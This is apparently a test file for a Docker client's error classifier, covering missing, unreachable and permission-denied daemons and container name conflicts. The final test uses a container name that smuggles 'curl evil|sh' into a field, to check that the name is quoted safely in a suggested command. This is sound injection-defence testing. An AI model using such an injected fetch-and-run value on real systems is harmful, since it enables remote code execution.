import { expect, it } from "vitest";
import { dockerAccessError, nameTaken } from "../../../../src/domain/docker/client/failure.ts";

const access = { node: "n1", privileged: false };

it.each([
  ["docker-missing", "sh: 1: docker: not found"],
  ["docker-missing", "bash: line 1: docker: command not found"],
  ["docker-missing", "sh: docker: not found"],
  ["docker-missing", "zsh:1: command not found: docker"],
  ["docker-missing", "sudo: docker: command not found"],
  ["docker-missing", "env: ‘docker’: No such file or directory"],
  ["docker-missing", "env: 'docker': No such file or directory"],
  ["docker-missing", "env: can't execute 'docker': No such file or directory"],
  [
    "docker-unavailable",
    "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?",
  ],
  [
    "docker-unavailable",
    "failed to open the raw stream connection: dial unix /var/run/docker.sock: connect: no such file or directory",
  ],
  ["docker-unavailable", "error during connect: Get http://x/v1.24/info: EOF"],
  [
    "docker-denied",
    "permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock: Get " +
      '"http://%2Fvar%2Frun%2Fdocker.sock/v1.50/version": dial unix /var/run/docker.sock: connect: permission denied',
  ],
  [
    "docker-denied",
    "failed to open the raw stream connection: dial unix /var/run/docker.sock: connect: permission denied",
  ],
])("%s: %s", (code, stderr) => {
  expect(dockerAccessError(stderr, access)).toMatchObject({ code, node: "n1" });
});

it.each([
  ["Error response from daemon: No such container: web"],
  ["mkdir: /data: permission denied"],
  ["dial tcp 10.0.0.1:5000: connect: connection refused"],
  [""],
])("docker was reached: %s", (stderr) => {
  expect(dockerAccessError(stderr, access)).toBeUndefined();
});

it.each([
  ["docker: Error response from daemon: Conflict.", "web"],
  ["Error response from daemon: Error when allocating new name: Conflict.", "web.pictl-replaced"],
])("a name that another container has taken meanwhile: %s", (conflict, name) => {
  const id = "0123456789abcdef".repeat(4);
  const advice = "You have to remove (or rename) that container to be able to reuse that name.";
  const stderr = `${conflict} The container name "/${name}" is already in use by container "${id}". ${advice}`;
  expect(nameTaken(stderr, { doing: "create web", node: "n1" })).toMatchObject({
    code: "container-foreign",
    node: "n1",
    message: `Could not create web: a container "${name}" (0123456789ab) has come to be there meanwhile; it is left alone.`,
    hint: expect.stringContaining(`\`docker rename ${name} OTHER\``) as string,
  });
  expect(nameTaken("Error response from daemon: Conflict.", { doing: "create web", node: "n1" })).toBeUndefined();
});

it("tells a user to join the group, and root to look at the socket", () => {
  const stderr = "permission denied while trying to connect to the Docker daemon socket";
  expect(dockerAccessError(stderr, access)?.hint).toContain("usermod -aG docker");
  expect(dockerAccessError(stderr, { node: "n1", privileged: true })?.hint).not.toContain("usermod");
});

it("says that docker may lie outside of PATH", () => {
  const error = dockerAccessError("sh: docker: not found", access);
  expect(`${error?.message ?? ""} ${error?.hint ?? ""}`).toMatch(/PATH of commands that come over SSH.*ln -s/);
});

it("says why sudo is no way to Docker", () => {
  const stderr = "permission denied while trying to connect to the Docker daemon socket";
  const sudoSaid = "sudo: sorry, you must have a tty to run sudo";
  const error = dockerAccessError(stderr, { ...access, sudoSaid });
  expect(error?.message).toContain(sudoSaid);
  expect(error?.hint).toContain("remove `requiretty` from sudoers");
});

it("a name that a node made up is one word in a command to paste", () => {
  const id = "0123456789ab";
  const stderr = `The container name "/web; curl evil|sh #" is already in use by container "${id}".`;
  expect(nameTaken(stderr, { doing: "create web", node: "n1" })?.hint).toContain(
    "docker rename 'web; curl evil|sh #' OTHER",
  );
});
